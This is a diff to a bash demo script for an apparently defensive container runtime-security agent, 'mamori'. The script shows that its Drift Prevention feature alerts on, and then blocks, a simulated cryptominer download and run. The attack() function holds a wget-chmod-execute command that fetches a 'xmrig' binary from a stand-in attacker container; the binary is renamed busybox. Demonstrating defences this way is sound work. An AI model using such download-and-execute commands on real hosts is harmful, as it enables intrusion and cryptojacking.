@@ -1,5 +1,6 @@
 #!/bin/bash
-# demo.sh tells issue 3's story on this machine, for a newcomer:
+# demo.sh tells the story of runtime enforcement on this machine, for a
+# newcomer:
 #
 #   A web container serves HTTP. An attacker who got a shell in it downloads
 #   a "cryptominer" from a server of theirs and runs it. The miner was not in
@@ -7,9 +8,14 @@
 #   the download, the write and the exec; in enforce mode the exec fails and
 #   nothing of the binary runs.
 #
-# Run as root: scripts/demo.sh. It installs what it needs, builds mamori,
-# uses a podman network of its own (the attacker's server is a container on
-# it) and removes everything it made when it ends.
+# The web container runs before the agent starts, as on any node where the
+# agent is upgraded or restarted. Each step waits until the agent reports
+# the container protected (mamori status), never for a fixed time, and the
+# script exits non-zero unless the enforce step was refused.
+#
+# Run as root: scripts/demo.sh. It installs what it needs, builds mamori
+# (or uses MAMORI_BIN), uses a podman network of its own (the attacker's
+# server is a container on it) and removes everything it made when it ends.
 set -euo pipefail
 export PATH=$PATH:/usr/local/go/bin
 here=$(cd "$(dirname "$0")" && pwd)
@@ -19,28 +25,38 @@ net=mamori-demo
 agent_pid=
 
 cleanup() {
-	[ -n "$agent_pid" ] && kill -INT "$agent_pid" 2>/dev/null && wait "$agent_pid" 2>/dev/null
+	if [ -n "$agent_pid" ]; then kill -INT "$agent_pid" 2>/dev/null && wait "$agent_pid" 2>/dev/null || true; fi
 	podman rm -f -t 0 mamori-demo-web mamori-demo-attacker >/dev/null 2>&1 || true
 	podman network rm -f "$net" >/dev/null 2>&1 || true
 	rm -rf "$work"
 }
 trap cleanup EXIT
 
-say() { printf '\n\033[1m== %s\033[0m\n' "$*"; }
+if [ -t 1 ]; then
+	say() { printf '\n\033[1m== %s\033[0m\n' "$*"; }
+else
+	say() { printf '\n== %s\n' "$*"; }
+fi
+fail() { echo "demo.sh: $*" >&2; exit 1; }
 
-[ "$(id -u)" = 0 ] || { echo "demo.sh: run as root (the agent loads eBPF)" >&2; exit 1; }
+[ "$(id -u)" = 0 ] || fail "run as root (the agent loads eBPF)"
 say "Preparing: podman, a busybox image, the mamori binary"
 "$here/install-deps.sh" >/dev/null
 image=$("$here/build-test-image.sh")
-(cd "$repo" && go build -o "$work/mamori" ./cmd/mamori)
+mamori=${MAMORI_BIN:-}
+if [ -z "$mamori" ]; then
+	mamori=$work/mamori
+	(cd "$repo" && go build -o "$mamori" ./cmd/mamori)
+fi
 
+podman rm -f -t 0 mamori-demo-web mamori-demo-attacker >/dev/null 2>&1 || true
 podman network create "$net" >/dev/null 2>&1 || true
 podman run -d --name mamori-demo-attacker --network "$net" "$image" \
 	sh -c 'mkdir -p /srv && cp /bin/busybox /srv/xmrig && httpd -f -p 8000 -h /srv' >/dev/null
 attacker=$(podman inspect -f '{{range .NetworkSettings.Networks}}{{.IPAddress}}{{end}}' mamori-demo-attacker)
 podman run -d --name mamori-demo-web --label app=web --network "$net" "$image" \
 	sh -c 'mkdir -p /www && echo "<h1>shop</h1>" > /www/index.html && httpd -f -p 8080 -h /www' >/dev/null
-echo "web container: mamori-demo-web; attacker's server: $attacker:8000"
+echo "web container: mamori-demo-web (running before the agent starts); attacker's server: $attacker:8000"
 
 policy() { # $1: audit or enforce
 	cat > "$work/policies/web.yaml" <<EOF
@@ -61,36 +77,71 @@ spec:
 EOF
 }
 
+# start_agent MODE starts the agent and waits until it reports the web
+# container's Drift Prevention in MODE: "enforced" (in place in the kernel
+# and the fanotify handler) or "audited".
 start_agent() {
-	"$work/mamori" agent --rules none --policy "$work/policies" --health-addr 127.0.0.1:0 \
-		--alerts-output "$work/alerts-$1.json" 2>"$work/agent-$1.log" &
+	local want=audited
+	[ "$1" = enforce ] && want=enforced
+	"$mamori" agent --rules none --policy "$work/policies" --health-addr 127.0.0.1:0 \
+		--hook-socket "$work/hook.sock" --alerts-output "$work/alerts-$1.json" 2>"$work/agent-$1.log" &
 	agent_pid=$!
-	for _ in $(seq 100); do
-		grep -q "agent ready" "$work/agent-$1.log" 2>/dev/null && break
+	local addr=
+	for _ in $(seq 300); do
+		kill -0 "$agent_pid" 2>/dev/null || { cat "$work/agent-$1.log" >&2; fail "the agent exited"; }
+		addr=$(sed -n 's/.*msg="agent ready".* health=\([^ ]*\).*/\1/p' "$work/agent-$1.log")
+		[ -n "$addr" ] && break
 		sleep 0.1
 	done
-	# The first exec in the container after the agent starts protects it.
-	podman exec mamori-demo-web true
-	sleep 0.3
+	[ -n "$addr" ] || { cat "$work/agent-$1.log" >&2; fail "the agent did not get ready in 30s"; }
+	for _ in $(seq 300); do
+		state=$("$mamori" status --addr "$addr" --json | python3 -c '
+import json, sys
+st = json.load(sys.stdin)
+for c in st.get("containers", []):
+    if c["name"] == "mamori-demo-web":
+        for ctl in c["controls"]:
+            if ctl["control"] == "driftPrevention":
+                print(ctl["state"], ctl.get("mechanism", ""))
+')
+		case "$state" in "$want"*)
+			echo "agent ready: mamori-demo-web's Drift Prevention is $state"
+			return ;;
+		esac
+		sleep 0.1
+	done
+	fail "the web container's Drift Prevention never became $want (last: ${state:-unknown})"
 }
 
 stop_agent() {
 	kill -INT "$agent_pid"
+	for _ in $(seq 200); do
+		kill -0 "$agent_pid" 2>/dev/null || break
+		sleep 0.1
+	done
+	if kill -0 "$agent_pid" 2>/dev/null; then
+		kill -QUIT "$agent_pid" # a stack dump into its log
+		sleep 1
+		cat "$work"/agent-*.log >&2
+		fail "the agent did not stop within 20s of Ctrl-C"
+	fi
 	wait "$agent_pid" || true
 	agent_pid=
 }
 
-attack() {
-	podman exec mamori-demo-web sh -c \
-		"wget -q -O /tmp/xmrig http://$attacker:8000/xmrig && chmod +x /tmp/xmrig && /tmp/xmrig --donate-level 1 2>&1; echo \"exit status: \$?\"" || true
+attack() { # prints what the attacker's shell printed
+	timeout 60 podman exec mamori-demo-web sh -c \
+		"wget -q -O /tmp/xmrig http://$attacker:8000/xmrig && chmod +x /tmp/xmrig && /tmp/xmrig --donate-level 1 2>&1; echo \"exit status: \$?\"" 2>&1 || true
 }
 
-show() { # $1: the alerts file
-	python3 - "$1" <<'EOF'
+# show FILE ACTION prints the miner's Drift Prevention alert with ACTION and
+# what led to it; it fails when there is none.
+show() {
+	python3 - "$1" "$2" <<'EOF'
 import json, sys
 for line in open(sys.argv[1]):
     a = json.loads(line)
-    if a.get("rule") != "Drift Prevention" or "xmrig" not in a["process"]["exe"]:
+    if a.get("rule") != "Drift Prevention" or "xmrig" not in a["process"]["exe"] or a["action"] != sys.argv[2]:
         continue
     print(f'{a["priority"]}: {a["rule"]}, action={a["action"]}, policy={a["policy"]}')
     print(f'  {a["output"]}')
@@ -104,9 +155,9 @@ for line in open(sys.argv[1]):
             print(f'    open     {p["name"]:8} {e["file"]["path"]} {e["file"].get("flags", "")}   (the write)')
         elif e["event"] == "exec" and "xmrig" in p["exe"]:
             print(f'    exec     {p["exe"]} upper_layer={p["exe_upper_layer"]}   (the run)')
-    break
-else:
-    print("  (no Drift Prevention alert)")
+    sys.exit(0)
+print(f"  (no Drift Prevention alert with action={sys.argv[2]})")
+sys.exit(1)
 EOF
 }
 
@@ -115,14 +166,22 @@ say "1. Audit mode: the miner runs, and mamori reports how it got there"
 echo "(the fake miner is busybox under another name: it says 'applet not found', but it ran)"
 policy audit
 start_agent audit
-attack
+out=$(attack)
+echo "$out"
 stop_agent
-show "$work/alerts-audit.json"
+show "$work/alerts-audit.json" audited || fail "audit mode raised no alert for the miner"
+case "$out" in *"applet not found"*) ;; *) fail "in audit mode the miner should have run" ;; esac
 
 podman exec mamori-demo-web rm -f /tmp/xmrig
 say "2. Enforce mode: the same attack; the miner never starts"
 policy enforce
 start_agent enforce
-attack
+out=$(attack)
+echo "$out"
 stop_agent
-show "$work/alerts-enforce.json"
+show "$work/alerts-enforce.json" blocked || fail "enforce mode raised no blocked alert for the miner"
+case "$out" in
+*"applet not found"*) fail "the miner ran in enforce mode" ;;
+*"Operation not permitted"*) echo "refused: the miner never ran" ;;
+*) fail "the miner was neither run nor refused: $out" ;;
+esac
